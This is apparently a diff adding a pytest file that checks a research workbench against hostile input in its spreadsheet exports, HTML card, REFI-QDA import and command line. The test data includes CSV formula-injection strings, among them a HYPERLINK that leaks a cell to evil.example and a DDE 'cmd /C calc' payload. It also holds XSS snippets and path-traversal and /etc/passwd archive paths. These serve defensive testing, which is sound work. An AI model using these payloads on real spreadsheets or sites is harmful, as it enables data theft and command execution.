@@ -1,0 +1,421 @@
+"""Hostile inputs through load, export (CSV and XLSX), the card's HTML, REFI-QDA import and the command line.
+
+Each value of ``HOSTILE`` is put where untrusted text enters the workbench: an article's title,
+source, URL and text, a coder's name, a tag's name and a note. Whatever the stage, a user must
+never get a cell a spreadsheet would evaluate, a CSV row split in two, markup that runs in the
+card, a file outside the folder asked for, or a traceback from the command line.
+"""
+
+from __future__ import annotations
+
+import csv
+import functools
+import html.parser
+import json
+import pathlib
+import subprocess
+import sys
+import tempfile
+import unicodedata
+import warnings
+import zipfile
+
+import openpyxl
+import pandas as pd
+import pytest
+
+import workbench
+from workbench import Codebook, export
+from workbench.errors import LoadError
+from workbench.export.cells import safe_text
+from workbench.interchange import read_qdpx, write_qdpx
+from workbench.widgets import _html
+
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.example/?"&A2,"Open")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": "+SUM(1,2)",
+    "minus": "-2+3",
+    "at": "@SUM(A1)",
+    "control before": '\x01=HYPERLINK("http://evil.example")',
+    "NUL before": "\x00+1+1",
+    "escape before": "\x1b[2J=1+1",
+    "spaces before": "   =1+1",
+    "tab before": "\t=1+1",
+    "CR before": "\r=1+1",
+    "NBSP before": "\xa0=1+1",
+    "zero-width before": "\u200b\u200c\u200d\u2060=1+1",
+    "BOM before": "\ufeff@SUM(A1)",
+    "bidi override before": "\u202e=1+1",
+    "C1 control before": "\x85=1+1",
+    "full-width equals": "＝1+1",
+    "full-width plus": "＋1+1",
+    "full-width minus": "－1+1",
+    "full-width at": "＠SUM(A1)",
+    "small equals": "﹦1+1",
+    "bare CR inside": "Breaking news\r=cmd|' /C calc'!A0",
+    "LF inside": "Breaking news\n=cmd|' /C calc'!A0",
+    "CRLF inside": "Breaking news\r\n@SUM(A1)",
+    "quotes and commas": 'He said, "=1+1", twice',
+    "script": "<script>alert(1)</script>",
+    "event handler": '<img src=x onerror="alert(1)">',
+    "attribute break-out": '" onmouseover="alert(1)',
+    "lone surrogate": "\ud800=1+1",
+}
+CONTROL_CHARACTERS = {"control before", "NUL before", "escape before"}
+VALUES = [pytest.param(value, id=name) for name, value in HOSTILE.items()]
+
+INVISIBLE = {"Cc", "Cf", "Zs", "Zl", "Zp"}
+"""Unicode categories a reader does not see: controls, format characters, spaces and separators."""
+
+
+def live(cell: str) -> bool:
+    """Return True when a spreadsheet could evaluate ``cell``: past invisible characters, it starts like a formula.
+
+    Independent of the exporter's rule: any character of an invisible category is skipped, and
+    the first visible one counts when Unicode compatibility folding makes it ``= + - @``. A
+    number (``-0.5`` in a CSV file) is read as a number.
+    """
+    if cell.startswith("'") or _number(cell):
+        return False
+    visible = next((char for char in cell if unicodedata.category(char) not in INVISIBLE), "")
+    return unicodedata.normalize("NFKC", visible)[:1] in ("=", "+", "-", "@")
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def strings(value: str) -> str:
+    """Return ``value`` as the workbench can hold it: a lone surrogate cannot be stored as text."""
+    return value.encode("utf-8", "replace").decode("utf-8")
+
+
+@functools.cache
+def corpus_of(value: str) -> workbench.Corpus:
+    """Return a two-article corpus whose title, source, URL and first sentence are ``value`` (read-only).
+
+    An article that cannot be loaded (a lone surrogate is not Unicode text) is an error row.
+    """
+    text = f"{value} Iran warned Israel on Monday. France agreed."
+    rows = [
+        {"id": "h1", "title": value, "source": value, "url": value, "published": "2024-04-15", "text": text},
+        {"id": "h2", "title": "Calm", "source": "Wire", "text": "The talks went on. Leaders met in Capri."},
+    ]
+    return quietly_load(pd.DataFrame(rows, dtype=object))
+
+
+def quietly_load(source: pathlib.Path | pd.DataFrame) -> workbench.Corpus:
+    """Load ``source`` without the warning that lists inputs not loaded (they are in ``corpus.errors``)."""
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)
+        return workbench.load(source)
+
+
+def store_of(corpus: workbench.Corpus, value: str) -> workbench.TagStore:
+    """Return an in-memory store where a coder named ``value`` put a tag named ``value`` and a note ``value``."""
+    value = strings(value)
+    codebook = Codebook.from_dict({"name": "hostile", "tags": [{"name": value}, {"name": "escalation"}]})
+    store = workbench.TagStore(memory=True, coder=value, codebook=codebook)
+    first = corpus.sentences["sentence_id"].iloc[0]
+    store.add(first, codebook.tags[0])
+    store.set_note(first, value)
+    store.coder = "ana"
+    store.add(first, "escalation")
+    return store
+
+
+def files_under(root: pathlib.Path) -> set[pathlib.Path]:
+    return {path for path in root.rglob("*") if path.is_file()}
+
+
+def assert_csv_safe(path: pathlib.Path, rows: int) -> None:
+    """The CSV file has a header and ``rows`` rows, read with the csv module, and no cell that could run."""
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        read = list(csv.reader(handle))
+    assert len(read) == rows + 1, f"{path.name}: {len(read) - 1} rows read back, {rows} written"
+    assert len({len(row) for row in read}) == 1, f"{path.name}: rows of different lengths"
+    assert not [cell for row in read for cell in row if live(cell)], path.name
+
+
+def assert_xlsx_safe(path: pathlib.Path, rows: dict[str, int]) -> None:
+    """The workbook has a sheet per table with its rows, no formula cell and no text that could run."""
+    book = openpyxl.load_workbook(path)
+    for name, count in rows.items():
+        sheet = book[name]
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert sheet.max_row == count + 1, name
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], name
+        assert not [cell.value for cell in cells if isinstance(cell.value, str) and live(cell.value)], name
+
+
+def scratch_files() -> set[str]:
+    return {path.name for path in pathlib.Path(tempfile.gettempdir()).glob("workbench-xlsx-*")}
+
+
+def export_both(corpus: workbench.Corpus, store: workbench.TagStore, root: pathlib.Path) -> None:
+    """Export ``corpus`` and ``store`` as CSV summaries, corpus tables and a workbook under ``root / 'out'``; check."""
+    out = root / "out"
+    before, scratch = files_under(root), scratch_files()
+    summaries = export.summaries(corpus, store, out / "csv")
+    files = json.loads(summaries[-1].read_text(encoding="utf-8"))["files"]
+    for path in summaries[:-1]:
+        assert_csv_safe(path, files[path.name]["rows"])
+    for path in export.corpus_tables(corpus, out / "tables", bom=True):
+        assert_csv_safe(path, len(getattr(corpus, path.stem)))
+    workbook = export.summaries(corpus, store, out / "xlsx", format="xlsx")
+    files = json.loads(workbook[-1].read_text(encoding="utf-8"))["files"]
+    assert_xlsx_safe(workbook[0], {key.split(":")[1]: shape["rows"] for key, shape in files.items()})
+    assert all(out in path.parents for path in files_under(root) - before)
+    assert scratch_files() <= scratch
+
+
+@pytest.mark.parametrize("value", VALUES)
+def test_load_then_export_as_csv_and_xlsx(tmp_path, value):
+    """Hardening items 1 and 2: no live formula and no split row, whatever the title, text, coder, tag or note."""
+    corpus = corpus_of(value)
+    with store_of(corpus, value) as store:
+        export_both(corpus, store, tmp_path)
+
+
+def test_every_invisible_character_before_a_formula_is_neutralised():
+    """Hardening item 1: every control, format, space or separator character, and every look-alike of = + - @."""
+    invisible = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in INVISIBLE]
+    starts = [chr(code) for code in range(0x10000) if unicodedata.normalize("NFKC", chr(code))[:1] in "=+-@"]
+    assert len(invisible) > 200 and len(starts) > 15
+    cells = [prefix + start + "1" for prefix in [*invisible, "\u200b\xa0 "] for start in starts]
+    assert not [cell for cell in map(safe_text, cells) if live(cell)]
+    column = export.neutralise(pd.DataFrame({"cell": pd.Series(cells, dtype="object")}))["cell"]
+    assert not [cell for cell in column.astype("string") if live(cell)]
+
+
+class _Markup(html.parser.HTMLParser):
+    """Collect the tags and attributes of an HTML fragment."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.update(name for name, _ in attrs)
+
+
+def markup(fragment: str) -> _Markup:
+    parser = _Markup()
+    parser.feed(fragment)
+    parser.close()
+    return parser
+
+
+@pytest.mark.parametrize("value", VALUES)
+def test_card_html_holds_only_the_card_markup(value):
+    """The card escapes hostile titles, sentences, claims and highlight tooltips: only its own divs and spans."""
+    corpus = corpus_of(value)
+    value = strings(value)
+    with store_of(corpus, value) as store:
+        card = workbench.tagger(corpus, store=store)
+        fragments = [card.card_html]
+        card.close()
+    highlighted = _html.highlight(value + " and more", [_html.Span(0, 4, "mention", value)])
+    fragments.append(
+        _html.card(heading=value, previous=value, current_html=highlighted, following=value, claims=[value])
+    )
+    for fragment in fragments:
+        found = markup(fragment)
+        assert found.tags <= {"div", "span"}, fragment
+        assert found.attributes <= {"class", "title"}, fragment
+
+
+def qdpx_cases() -> list:
+    """Each hostile value through a REFI-QDA project; XML 1.0 cannot hold C0 control characters."""
+    reason = (
+        "write_qdpx writes control characters in names as they are, which XML 1.0 cannot hold, so the "
+        "project does not read back (REFI-QDA interchange, hardening item 16)"
+    )
+    return [
+        pytest.param(value, id=name, marks=pytest.mark.xfail(reason=reason, strict=True))
+        if name in CONTROL_CHARACTERS
+        else pytest.param(value, id=name)
+        for name, value in HOSTILE.items()
+    ]
+
+
+@pytest.mark.parametrize("value", qdpx_cases())
+def test_refiqda_import_then_export(tmp_path, value):
+    """A project whose source names, texts, code names and users are hostile imports, then exports safely."""
+    corpus = corpus_of(value)
+    with store_of(corpus, value) as store:
+        project = read_qdpx(write_qdpx(corpus, store, tmp_path / "hostile.qdpx"))
+    imported = workbench.load(pd.DataFrame({"title": project.sources["name"], "text": project.sources["text"]}))
+    coder = project.codings["coder"].iloc[0]
+    with workbench.TagStore(memory=True, coder=coder, codebook=project.codebook) as store:
+        for row in project.codings.itertuples():
+            store.coder = row.coder
+            store.add(imported.sentences["sentence_id"].iloc[0], row.tag)
+        export_both(imported, store, tmp_path)
+
+
+@pytest.mark.parametrize(
+    "member, path",
+    [
+        ("../../outside.txt", "internal://../../outside.txt"),
+        ("/tmp/absolute.txt", "internal:///tmp/absolute.txt"),
+        ("sources/a.txt", "file:///etc/passwd"),
+    ],
+)
+def test_refiqda_import_writes_no_file(tmp_path, member, path):
+    """A project with member names or source paths that point outside is read in memory, never extracted."""
+    project = (
+        '<?xml version="1.0" encoding="utf-8"?><Project xmlns="urn:QDA-XML:project:1.0" name="p">'
+        '<CodeBook><Codes><Code guid="C1" name="=cmd" isCodable="true"/></Codes></CodeBook>'
+        f'<Sources><TextSource guid="S1" name="@source" plainTextPath="{path}"/></Sources></Project>'
+    )
+    archive_path = tmp_path / "in" / "p.qdpx"
+    archive_path.parent.mkdir()
+    with zipfile.ZipFile(archive_path, "w") as archive:
+        archive.writestr("project.qde", project)
+        archive.writestr(member, "=1+1 was in the file.")
+    before = files_under(tmp_path)
+    try:
+        read = read_qdpx(archive_path)
+    except LoadError as error:
+        assert "p.qdpx" in str(error) or "@source" in str(error)
+    else:
+        assert read.codebook.tags == ["=cmd"]
+    assert files_under(tmp_path) == before
+    assert not pathlib.Path("/tmp/absolute.txt").exists()
+
+
+# -- the command line, run as a real command ---------------------------------------------------------
+
+
+def run(*args: str | pathlib.Path, cwd: pathlib.Path) -> subprocess.CompletedProcess:
+    command = [sys.executable, "-m", "workbench", *map(str, args)]
+    return subprocess.run(command, capture_output=True, text=True, cwd=cwd, timeout=300)
+
+
+@pytest.fixture(scope="module")
+def hostile_inputs(tmp_path_factory) -> pathlib.Path:
+    """A JSONL corpus with one article per hostile value, and a store where hostile coders tagged and noted it."""
+    root = tmp_path_factory.mktemp("hostile")
+    articles = [
+        {
+            "id": f"h{number}",
+            "title": value,
+            "source": value,
+            "text": f"{value} Iran warned.",
+        }
+        for number, value in enumerate(HOSTILE.values())
+    ]
+    (root / "in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in articles), encoding="utf-8")
+    corpus = quietly_load(root / "in.jsonl")
+    with workbench.TagStore(root / "tags.sqlite", coder="ana") as store:
+        for sentence, value in zip(corpus.sentences["sentence_id"], HOSTILE.values(), strict=False):
+            store.coder = strings(value)
+            store.add(sentence, "escalation")
+            store.set_note(sentence, strings(value))
+    return root
+
+
+def test_cli_load_writes_safe_tables(hostile_inputs, tmp_path):
+    """Hardening items 1, 2 and 15: ``workbench load`` on hostile articles, read back as a spreadsheet would."""
+    result = run("load", hostile_inputs / "in.jsonl", "--out", tmp_path / "t", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "Traceback" not in result.stderr
+    corpus = quietly_load(hostile_inputs / "in.jsonl")
+    for name in export.CORPUS_TABLES:
+        assert_csv_safe(tmp_path / "t" / f"{name}.csv", len(getattr(corpus, name)))
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_cli_export_writes_safe_summaries(hostile_inputs, tmp_path, file_format):
+    """Hardening items 1, 2 and 15: ``workbench export`` of hostile coders, notes and titles, as CSV and XLSX."""
+    arguments = ["--store", hostile_inputs / "tags.sqlite", "--corpus", hostile_inputs / "in.jsonl"]
+    result = run("export", *arguments, "--out", tmp_path / "o", "--format", file_format, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    assert "Traceback" not in result.stderr
+    files = json.loads((tmp_path / "o" / "manifest.json").read_text(encoding="utf-8"))["files"]
+    if file_format == "csv":
+        for name, shape in files.items():
+            assert_csv_safe(tmp_path / "o" / name, shape["rows"])
+    else:
+        assert_xlsx_safe(tmp_path / "o" / "summaries.xlsx", {key.split(":")[1]: s["rows"] for key, s in files.items()})
+    assert {path.parent for path in files_under(tmp_path)} == {tmp_path / "o"}
+
+
+def damage(path: pathlib.Path) -> pathlib.Path:
+    """Overwrite every page of an SQLite file but the first with garbage."""
+    data = bytearray(path.read_bytes())
+    page = int.from_bytes(data[16:18], "big")
+    data[page:] = b"\xde\xad\xbe\xef" * ((len(data) - page) // 4)
+    path.write_bytes(bytes(data))
+    return path
+
+
+def other_application_database(path: pathlib.Path) -> pathlib.Path:
+    import sqlite3
+
+    with sqlite3.connect(path) as connection:
+        connection.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
+        connection.execute("INSERT INTO invoices (total) VALUES (12.5)")
+    connection.close()
+    return path
+
+
+def broken_json(path: pathlib.Path) -> pathlib.Path:
+    path.write_text('{"title": "=1+1", "text": [', encoding="utf-8")
+    return path
+
+
+FAILURES = [
+    pytest.param(
+        lambda root: ["load", root / "missing\n=1+1.json", "--out", root / "t"], id="missing path with newline"
+    ),
+    pytest.param(lambda root: ["load", root / "in.jsonl", "--out", root / "in.jsonl"], id="out is a file"),
+    pytest.param(
+        lambda root: ["export", "--store", root / "in.jsonl", "--corpus", root / "in.jsonl", "--out", root / "o"],
+        id="store is not SQLite",
+    ),
+    pytest.param(
+        lambda root: ["export", "--store", damage(root / "tags.sqlite"), "--corpus", root / "in.jsonl", "--out", root],
+        id="damaged store",
+    ),
+    pytest.param(
+        lambda root: [
+            "export",
+            "--store",
+            other_application_database(root / "other.db"),
+            "--corpus",
+            root / "in.jsonl",
+            "--out",
+            root / "o",
+        ],
+        id="another application's database",
+    ),
+    pytest.param(lambda root: ["load", broken_json(root / "broken.json"), "--out", root / "t"], id="broken JSON"),
+]
+
+
+@pytest.mark.parametrize("arguments", FAILURES)
+def test_cli_failures_are_one_line_on_stderr(hostile_inputs, tmp_path, arguments):
+    """Hardening item 15: every failure is one line on stderr and a non-zero exit, never a traceback.
+
+    Nothing is written or changed in the folder (a wrong command line instead gets click's usage text).
+    """
+    root = tmp_path / "work"
+    root.mkdir()
+    for name in ("in.jsonl", "tags.sqlite"):
+        (root / name).write_bytes((hostile_inputs / name).read_bytes())
+    command = arguments(root)
+    before = {path: path.read_bytes() for path in files_under(root)}
+    result = run(*command, cwd=root)
+    assert result.returncode != 0
+    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
+    assert "Traceback" not in result.stderr
+    assert {path: path.read_bytes() for path in files_under(root)} == before
